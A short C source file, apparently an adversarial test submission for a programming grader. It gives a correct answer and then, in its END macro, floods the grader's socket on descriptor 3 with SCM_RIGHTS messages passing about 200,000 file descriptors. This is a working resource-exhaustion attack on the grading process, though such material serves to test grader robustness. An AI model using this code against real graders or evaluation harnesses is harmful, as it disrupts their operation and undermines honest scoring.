/* Answers right, and sends the grader packets with thousands of descriptors, which it would have to
 * close. */
#include <sys/socket.h>
#define END                                                                                        \
    for (int i = 0; i < 2000; i++) {                                                               \
        int many[100];                                                                             \
        char byte = 0, room[CMSG_SPACE(sizeof many)];                                              \
        for (int j = 0; j < 100; j++)                                                              \
            many[j] = j % 3;                                                                       \
        struct iovec part = {&byte, 1};                                                            \
        struct msghdr message = {.msg_iov = &part,                                                 \
                                 .msg_iovlen = 1,                                                  \
                                 .msg_control = room,                                              \
                                 .msg_controllen = sizeof room};                                   \
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);                                          \
        *header = (struct cmsghdr){                                                                \
            .cmsg_len = CMSG_LEN(sizeof many), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS}; \
        memcpy(CMSG_DATA(header), many, sizeof many);                                              \
        if (sendmsg(3, &message, MSG_DONTWAIT | MSG_NOSIGNAL) < 0)                                 \
            break;                                                                                 \
    }
#include "plain.h"
